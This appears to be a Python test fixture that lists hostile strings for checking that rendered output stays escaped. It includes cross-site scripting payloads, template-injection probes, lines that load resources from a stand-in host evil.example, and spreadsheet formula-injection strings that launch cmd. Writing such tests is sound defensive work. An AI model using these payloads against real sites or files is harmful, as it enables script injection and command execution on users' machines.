"""Text that tries to get out of the page: each would call `pwned` if anything of it ran."""

# ruff: noqa: E501 - a text is one line
HOSTILE = (
    "<script>pwned()</script>", "</script><script>pwned()</script>", "<img src=x onerror=pwned()>", "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>", "<iframe srcdoc='<script>parent.pwned()</script>'>", "<body onload=pwned()>",
    "<details open ontoggle=pwned()>", "<input autofocus onfocus=pwned()>", "<marquee onstart=pwned()>", "<video><source onerror=pwned()>",
    "<object data='javascript:pwned()'>", "<embed src='javascript:pwned()'>", "<a href='javascript:pwned()'>x</a>", "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>", "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>", "<form action='//evil.example'><button>x</button></form>",
    '"onmouseover="pwned()', "' onfocus='pwned()' autofocus='", '"><script>pwned()</script>', "'><script>pwned()</script>",
    "`onclick=pwned()`", "--><script>pwned()</script><!--", "<!--<script>pwned()</script>", "]]><script>pwned()</script>",
    "<![CDATA[<script>pwned()</script>]]>", "{{7*7}}", "{{ say.__class__ }}", "{% include 'base.html' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "javascript:pwned()", "JaVaScRiPt:pwned()", "data:text/html,<script>pwned()</script>", "vbscript:pwned()", "//evil.example/x",
    "hx-on:click=pwned()", "<div hx-get='/log' hx-trigger='load'>", "<div hx-on::load='pwned()'>", "<div data-hx-on--load='pwned()'>",
    "<script src=//evil.example/x.js></script>", "<scr<script>ipt>pwned()</scr</script>ipt>", "%3Cscript%3Epwned()%3C/script%3E",
    "&lt;script&gt;pwned()&lt;/script&gt;", "\\u003cscript\\u003epwned()\\u003c/script\\u003e", "\u202e<script>pwned()</script>",
    "<math><mtext></table><mglyph><style><img src=x onerror=pwned()>", "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><script>pwned()</script>'>", "<textarea></textarea><script>pwned()</script>",
    "<title></title><script>pwned()</script>", "<select><option></select><script>pwned()</script>", "</main></body><script>pwned()</script>",
    '=HYPERLINK("http://evil.example","x")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1",
)  # fmt: skip
